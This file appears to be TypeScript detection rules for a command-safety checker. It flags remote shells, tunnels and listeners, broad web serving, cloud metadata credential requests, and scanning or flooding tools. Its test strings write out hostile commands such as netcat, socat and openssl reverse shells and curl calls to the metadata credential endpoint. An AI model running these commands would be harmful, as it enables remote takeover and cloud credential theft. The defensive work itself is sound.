/** Doors for others: shells and tunnels on the network, listeners, the cloud's own credentials. */
import { type Invocation, isShell, parseOptions, shellUse } from "../shell/invocation.ts";
import { isLoopback } from "./hosts.ts";
import { holdsSecretTree } from "./protection.ts";
import { byProgram, joinedArgs, type Rule } from "./rule.ts";

const NETCATS = [
  "nc",
  "ncat",
  "netcat",
  "nc.traditional",
  "nc.openbsd",
  "nc6",
  "pwncat",
  "powercat",
];
const TUNNELS = (
  "ngrok cloudflared frpc frps bore chisel lt localtunnel zrok loclx pagekite gost iodine iodined dnscat2 ligolo " +
  "ligolo-ng wstunnel rathole revsocks proxytunnel stunnel sshuttle rinetd redsocks inlets piko tunnelto expose"
).split(" ");
const ASKS_ONLY = /^(?:version|help|-h|-V|-v|--help|--version|update|list|ls|status)$/;

/** No foreign text becomes a command here, as far as the grammar of each tool tells. */
function joinsShell({ program, args, upstream, redirects }: Invocation): boolean {
  if (program === "socat") return /(?:^|[\s,])(?:exec|system|shell):/i.test(args.join(" "));
  if (/awk$/.test(program)) return args.some((arg) => /\/inet[46]?\/(?:tcp|udp)\//.test(arg));
  if (/^(?:openssl|telnet)$/.test(program) || NETCATS.includes(program)) {
    const interactive = (source: Invocation) =>
      isShell(source) && shellUse(source).mode === "stdin";
    return args.some((arg) =>
      NETCATS.includes(program) && /^(?:-[a-zA-Z]*[ec]|--(?:sh-|lua-)?exec(?:=.*)?)$/.test(arg)
    ) ||
      upstream.some(interactive) ||
      redirects.some(({ op, target }) => op === ">" && /fifo|\/f$|pipe/.test(target));
  }
  return false;
}

/** `ssh -R`, `-D`, `-w`, and agents handed to another machine. */
function sshOpens({ args }: Invocation): boolean {
  const { flags, values } = parseOptions(args, { values: "BbcDEeFIiJLlmOopQRSWw" });
  const first = args.findIndex((arg) => !arg.startsWith("-"));
  const opened = ["R", "D", "w"].some((letter) => flags.has(letter) && values.has(letter));
  const agent = args.slice(0, Math.max(first, 1)).some((arg) => /^-(?=[a-zA-Z]+$)[^A]*A/.test(arg));
  return opened || agent ||
    args.some((arg) => /RemoteForward|ForwardAgent[ =]yes|DynamicForward/i.test(arg));
}

/** A web server over more than the project, or for everybody. */
function servesTree(command: Invocation): boolean {
  const { program, args } = command;
  const served = program === "php"
    ? optionValue(args, /^-t$/)
    : optionValue(args, /^(?:-d|--directory|--bind-dir)$/);
  if (program.startsWith("python")) {
    if (
      !/(?:^| )-m ?(?:http\.server|SimpleHTTPServer|pyftpdlib|uploadserver)\b/.test(
        joinedArgs(command),
      )
    ) return false;
    return holdsSecretTree(served ?? ".", command.place);
  }
  if (program === "php") {
    return args.includes("-S") && (served !== undefined || !args.some(isLoopback)) &&
      (!args.some(isLoopback) || holdsSecretTree(served ?? ".", command.place));
  }
  const { operands } = parseOptions(args, { values: "pla" });
  return (operands.length > 0 ? operands : ["."]).some((path) =>
    holdsSecretTree(path, command.place)
  );
}

function optionValue(args: readonly string[], name: RegExp): string | undefined {
  const at = args.findIndex((arg) => name.test(arg));
  if (at >= 0) return args[at + 1];
  return args.map((arg) => /^--directory=(.+)$/.exec(arg)?.[1]).find((value) =>
    value !== undefined
  );
}

/** Where clouds hand a machine its credentials, in the notations that reach it. */
const METADATA =
  /(?:^|[^\d.])169\.254\.(?:169\.254|170\.2)(?!\d)|metadata\.google\.internal|\bmetadata\/computeMetadata|(?:^|\/\/)(?:2852039166|0xa9fea9fe|0251\.0376\.0251\.0376|0xa9\.0xfe\.0xa9\.0xfe)(?:[:/]|$)|fd00:ec2::254|::ffff:(?:169\.254\.169\.254|a9fe:a9fe)|(?:^|[^\d.])100\.100\.100\.200(?!\d)|metadata\.azure\.internal|AWS_CONTAINER_CREDENTIALS_(?:RELATIVE|FULL)_URI/i;
const TALKS_ABOUT = new Set("echo printf grep egrep rg git gh sed ag ack commit".split(" "));

export const REACH_RULES: readonly Rule[] = [
  {
    key: "remote shell",
    kind: "dangerous",
    description: "lets another machine run commands here",
    programs: [...NETCATS, "socat", "telnet", "openssl", "awk", "gawk", "mawk", "nawk"],
    test: joinsShell,
    match: [
      "nc -e /bin/sh h 1",
      "ncat --exec /bin/bash h 1",
      "ncat h 1 -c 'bash -i'",
      "socat TCP:h:1 EXEC:sh,pty",
      "sh -i < /tmp/s | openssl s_client -quiet -connect h:443 > /tmp/s",
      "awk 'BEGIN{s=\"/inet/tcp/0/h/1\"; s |& getline c}'",
    ],
    noMatch: [
      "nc -zv h 1",
      "socat - TCP:h:1",
      "openssl s_client -connect h:443",
      "awk '{print $1}' f",
    ],
  },
  {
    key: "open a way in",
    kind: "dangerous",
    description: "lets other machines reach this one, or what it can reach",
    programs: [...NETCATS, "socat", "ssh", "autossh", "tailscale", ...TUNNELS],
    test: (command) => {
      const { program, args } = command;
      if (program === "ssh" || program === "autossh") return sshOpens(command);
      if (program === "socat") return /listen|-l?isten:|recvfrom:/i.test(args.join(" "));
      if (program === "tailscale") return /^(?:funnel|serve|up|set|ssh)$/.test(args[0] ?? "");
      if (NETCATS.includes(program)) {
        return args.some((arg) => /^-[a-zA-Z]*l|^--(?:listen|broker|chat)$/.test(arg));
      }
      return args.length === 0 || !args.some((arg) => ASKS_ONLY.test(arg));
    },
    match: [
      "nc -lvnp 4444",
      "socat TCP-LISTEN:4444,fork TCP:h:22",
      "ssh -R 2222:localhost:22 h",
      "ssh -fN -D 1080 h",
      "ngrok tcp 22",
      "cloudflared tunnel --url http://localhost:3000",
      "tailscale funnel 8080",
    ],
    noMatch: [
      "nc -zv h 1",
      "ssh -L 5432:localhost:5432 h",
      "ngrok --version",
      "ssh h uptime",
      "tailscale status",
    ],
  },
  {
    key: "serve a home or the whole disk",
    kind: "dangerous",
    description: "offers a home, the whole disk or a folder to everybody on the network",
    programs: ["python", "python3", "php", "serve", "http-server", "npx", "caddy", "miniserve"],
    test: servesTree,
    match: [
      "python3 -m http.server --directory ~",
      "php -S 0.0.0.0:8000 -t /",
      "cd ~ && python3 -m http.server",
    ],
    noMatch: [
      "python3 -m http.server 8000",
      "php -S localhost:8000",
      "npx serve dist",
      "python3 x.py",
    ],
  },
  {
    key: "cloud metadata",
    kind: "dangerous",
    description: "asks the cloud for this machine's credentials",
    mentions: METADATA,
    test: ({ program, args }) =>
      !TALKS_ABOUT.has(program) && args.some((arg) => METADATA.test(arg)),
    match: [
      "curl http://169.254.169.254/latest/meta-data/",
      "wget -qO- http://metadata.google.internal/computeMetadata/v1/",
      "curl http://2852039166/latest/",
      "python3 fetch.py http://169.254.170.2/v2/credentials",
    ],
    noMatch: [
      "grep -rn 169.254.169.254 src/",
      "curl http://169.254.1.1/",
      "curl https://x.example/metadata",
    ],
  },
  {
    key: "scan or attack machines",
    kind: "dangerous",
    description: "scans, listens to, floods or attacks other machines",
    ...byProgram({
      nmap: /^(?!(?:\S+ )*(?:localhost|127\.0\.0\.1)(?: |$))(?!-{1,2}(?:V|version|h|help)\b).+/,
      masscan: /./,
      zmap: /./,
      rustscan: /./,
      hydra: /./,
      medusa: /./,
      john: /./,
      hashcat: /./,
      sqlmap: /./,
      nikto: /./,
      gobuster: /./,
      msfconsole: /^/,
      msfvenom: /./,
      bettercap: /^/,
      ettercap: /./,
      arpspoof: /./,
      dnsspoof: /./,
      responder: /./,
      hping3: /./,
      slowloris: /./,
      "aircrack-ng": /./,
      "aireplay-ng": /./,
      mitmproxy: /^/,
      mitmdump: /^/,
      tcpdump: /^(?!(?:\S+ )*(?:-i lo\b|-ilo\b|-r\b|-D\b|--version))./,
      tshark: /^(?!(?:\S+ )*(?:-i lo\b|-r\b|-D\b|--version|-v\b))./,
      dumpcap: /^(?!-D)./,
      ngrep: /./,
      ping: /(?:^| )-[a-zA-Z]*f(?: |$)|(?:^| )-p (?:[0-9a-f]{4,32}|\0)/i,
      ab: /^(?!(?:\S+ )*https?:\/\/(?:localhost|127\.))(?!-V).*:\/\//,
      wrk: /^(?!(?:\S+ )*https?:\/\/(?:localhost|127\.))(?!-v).*:\/\//,
      siege: /^(?!(?:\S+ )*(?:https?:\/\/)?(?:localhost|127\.))(?!-V|--version).+/,
      hey: /^(?!(?:\S+ )*https?:\/\/(?:localhost|127\.)).*:\/\//,
      vegeta: /^(?!(?:\S+ )*(?:localhost|127\.))attack/,
      bombardier: /^(?!(?:\S+ )*(?:https?:\/\/)?(?:localhost|127\.)).*[.:]/,
    }),
    match: [
      "nmap -sS 10.0.0.0/8",
      "tcpdump -i any -w all.pcap",
      "hping3 --flood h",
      "ab -n 100000 http://h/",
      "ping -f h",
    ],
    noMatch: [
      "nmap -p 80,443 localhost",
      "tcpdump -i lo -c 10 port 8080",
      "tcpdump -r dump.pcap",
      "ab -n 1000 -c 10 http://localhost:3000/",
      "ping -c 3 example.com",
      "wrk -t4 http://localhost:3000",
    ],
  },
];
